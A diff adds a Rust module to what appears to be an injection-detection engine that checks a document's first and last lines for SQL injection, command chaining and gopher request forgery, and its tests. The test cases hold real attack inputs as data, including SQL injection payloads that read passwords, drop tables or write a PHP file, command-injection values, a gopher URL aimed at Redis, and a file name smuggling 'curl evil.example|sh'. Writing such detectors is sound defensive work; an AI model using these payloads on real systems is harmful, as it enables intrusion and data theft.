@@ -1,0 +1,141 @@
+//! What stands around a document goes on with its first line and from its last: lines that say nothing, before or behind, would
+//! hide what leaves a query, a command or a head. What acts by itself, such as a program's first line, documents have too.
+
+use super::bytes::{between, find_pair, from, is_blank, starts_with};
+use super::effort::Effort;
+use super::{Categories, Engine, Finding, Kind, Listener, profile};
+
+/// What is judged of a line: the first of the first, the last of the last.
+const LINE_BYTES_MAX: usize = 1024;
+
+impl Engine {
+    /// Judges the first and the last line of a document by themselves, for what goes on in what stands around the value.
+    pub(super) fn judge_outer_lines(
+        &self,
+        layer: &[u8],
+        left: &mut Categories,
+        effort: &mut Effort,
+        report: &mut dyn FnMut(Finding) -> bool,
+    ) -> bool {
+        let [first, last] = profile::outer_lines(layer);
+        let first = between(first, 0, first.len().min(LINE_BYTES_MAX));
+        let last = from(last, last.len().saturating_sub(LINE_BYTES_MAX));
+        [first, last].into_iter().any(|line| {
+            let mut listener = Listener {
+                counts: &|rule| goes_on(line, rule),
+                report,
+            };
+            self.judge_layer(line, profile::bits(line), Kind::Parameter, left, effort, &mut listener)
+        })
+    }
+}
+
+/// Whether what a rule finds in a line leaves what stands around it.
+fn goes_on(line: &[u8], rule: &str) -> bool {
+    match rule {
+        "request_forgery.scheme" => starts_with(line, b"gopher:") || starts_with(line, b"dict:"),
+        "sql.union"
+        | "sql.boolean"
+        | "sql.comment"
+        | "sql.comparison"
+        | "sql.subquery"
+        | "sql.expression"
+        | "sql.catalogue"
+        | "sql.executable_comment" => true,
+        // A script of statements is a document, and begins with a word; what leaves a query in the middle of a line closes a quote.
+        "sql.stacked" | "sql.clause" | "sql.function" | "sql.delay" | "sql.file" | "sql.cast" => {
+            !line.first().is_some_and(u8::is_ascii_alphabetic) || leaves_quote(line)
+        }
+        "command.chained" | "command.shell" => is_chained(line),
+        _ => rule.starts_with("nosql.") || rule.starts_with("header."),
+    }
+}
+
+fn leaves_quote(line: &[u8]) -> bool {
+    [b'\'', b'"']
+        .iter()
+        .any(|quote| line.iter().filter(|b| *b == quote).count() % 2 == 1)
+}
+
+/// Whether a line is what an argument goes on with, and no command of a script: the separator stands before any blank.
+fn is_chained(line: &[u8]) -> bool {
+    let end = line.iter().position(|b| is_blank(*b)).unwrap_or(line.len());
+    let word = between(line, 0, end);
+    let separates = word.iter().any(|b| matches!(b, b';' | b'&' | b'|' | b'`'));
+    // `NOW=$(date)` is a script's.
+    let substitutes = find_pair(word, 0, *b"$(").is_some_and(|at| at == 0 || word.get(at - 1) != Some(&b'='));
+    separates || substitutes
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::{Account, Category};
+    use super::*;
+
+    fn is_found(engine: &Engine, text: &str) -> bool {
+        let all = Category::ALL.iter().fold(Categories::NONE, |set, (_, c)| set.with(*c));
+        let mut found = false;
+        engine.judge(
+            text.as_bytes(),
+            Kind::Parameter,
+            all,
+            &mut Account::default(),
+            &mut |_| {
+                found = true;
+                true
+            },
+        );
+        found
+    }
+
+    /// Lines that say nothing, as a document's.
+    fn document() -> String {
+        format!("\n#x\n#y\n#z\n#u\n{}\n", "#".repeat(170))
+    }
+
+    #[test]
+    fn what_goes_on_is_found_before_and_behind_lines_that_say_nothing() {
+        let engine = Engine::new();
+        let long = format!("x' or 1=1#{}", "A".repeat(1100));
+        for line in [
+            "x' or 1=1#",
+            "x' or sleep(0) or 1=1#",
+            "x' and md5(1) union select password from users#",
+            "x' and extractvalue(1,concat(0x7e,version()))#",
+            "x';select pg_sleep(5)",
+            "id and sleep(5)#",
+            "x'; drop table users#",
+            "x' order by 5#",
+            "' waitfor delay '0:0:5'",
+            "1 into outfile '/var/www/x.php'",
+            ";whoami",
+            "&&whoami",
+            "127.0.0.1;id",
+            "x$(sleep 5)",
+            "x.jpg;curl evil.example|sh",
+            "Gopher://127.0.0.1:6379/_x",
+            &long,
+        ] {
+            let text = format!("{line}{}", document());
+            assert!(is_found(&engine, &text), "{line}");
+        }
+        assert!(is_found(&engine, &format!("{}x' or sleep(0) or 1=1#", document())));
+    }
+
+    #[test]
+    fn what_a_script_begins_and_ends_with_is_none() {
+        let engine = Engine::new();
+        for line in [
+            "create table users (id int);",
+            "select * from users order by 5;",
+            "time.sleep(5)",
+            "NOW=$(date)",
+            "cd /tmp && ls",
+            "exit 0",
+        ] {
+            for text in [format!("{line}{}", document()), format!("{}{line}", document())] {
+                assert!(!is_found(&engine, &text), "{text}");
+            }
+        }
+    }
+}
